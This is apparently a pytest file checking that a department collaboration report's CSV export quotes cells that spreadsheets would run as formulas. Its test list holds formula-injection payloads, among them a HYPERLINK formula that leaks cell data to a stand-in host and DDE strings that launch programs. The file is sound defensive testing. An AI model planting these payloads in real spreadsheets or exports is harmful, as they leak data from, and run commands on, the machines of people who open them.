"""The collaboration report CSV cannot carry spreadsheet formulas (issue 14: CSV formula injection).

Department names and peer comments are typed by people; a cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets.
"""

from __future__ import annotations

import csv
import io

import pytest

from services.results.report import Cell, build_report, render_csv, spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_cells_that_would_start_a_formula_are_quoted(text: str) -> None:
    names = {"sales": text, "ops": "Operations"}
    cells = [Cell("sales", "ops", 4.0, 4.0, 4.0, 4.0, 2, (text, "fine")), Cell("ops", "sales", 3.0, 3.0, 3.0, 3.0, 2)]
    rows = list(csv.DictReader(io.StringIO(render_csv(build_report(cycle_id="c1", cells=cells, names=names)))))
    by_rater = {r["rater_department_id"]: r for r in rows}
    assert by_rater["sales"]["rater_department"] == "'" + text
    assert by_rater["ops"]["rated_department"] == "'" + text
    assert by_rater["sales"]["comments"] == "'" + text + " | fine"
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+@\t\r" or column in ("overall", "change"), (column, value)


def test_numbers_and_plain_text_are_unchanged() -> None:
    assert spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe(3) == 3
    assert spreadsheet_safe("Sales") == "Sales" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("a=b") == "a=b"
    previous = [Cell("sales", "ops", 5.0, 5.0, 5.0, 5.0, 2)]
    current = [Cell("sales", "ops", 4.0, 4.0, 4.0, 4.0, 2)]
    report = build_report(cycle_id="c2", cells=current, names={}, previous_cycle_id="c1", previous_cells=previous)
    (row,) = csv.DictReader(io.StringIO(render_csv(report)))
    assert row["change"] == "-1.0", "a negative number stays a number"
